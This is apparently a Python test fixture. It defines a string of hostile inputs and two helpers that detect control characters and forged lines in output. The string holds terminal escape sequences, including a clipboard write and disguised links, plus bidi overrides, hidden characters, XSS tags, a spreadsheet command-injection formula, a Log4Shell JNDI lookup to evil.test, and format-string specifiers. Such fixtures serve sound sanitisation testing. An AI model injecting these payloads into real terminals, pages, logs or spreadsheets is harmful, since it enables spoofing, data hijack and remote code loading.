"""Text with which an agent or a caller could try to act on a terminal, a log file or a page."""

FORGED = "FORGED"
HOSTILE = (
    "\x1b[2J\x1b[31mred\x1b[0m"  # clears the screen, changes colours
    "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x07"  # OSC 8: a link with another address
    "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07"  # sets the window's title, and the clipboard
    "\x9b2J\x9d8;;\x9c\x7f"  # the same in 8-bit control characters
    "[bold]bold[/bold][link=http://evil.test]link[/link][/]"  # Rich's markup
    f"\r{FORGED} \n{FORGED} \r\n{FORGED} \x0b{FORGED} \x0c{FORGED} \x85{FORGED} \u2028{FORGED} \u2029{FORGED} "
    "\u202eoverride\u202c \u2066isolate\u2069 \u202bembedding"  # reorder the line
    "\u200bzero\ufeffwidth\u2060 \u00adhyphen \U000e0041tag"  # hidden
    "<script>alert(1)</script><img src=x onerror=alert(1)>"
    "=cmd|' /C calc'!A0 ${jndi:ldap://evil.test} %s %n {0}"
)
LONG = HOSTILE + "x" * 5_000


def harmful(text: str) -> set[str]:
    """The characters of an output that could act on a terminal or hide text."""
    return {character for character in text if not character.isprintable() and character != "\n"}


def forged_lines(text: str) -> list[str]:
    """The lines of an output that hostile text has begun."""
    return [line for line in text.splitlines() if line.lstrip().startswith(FORGED)]
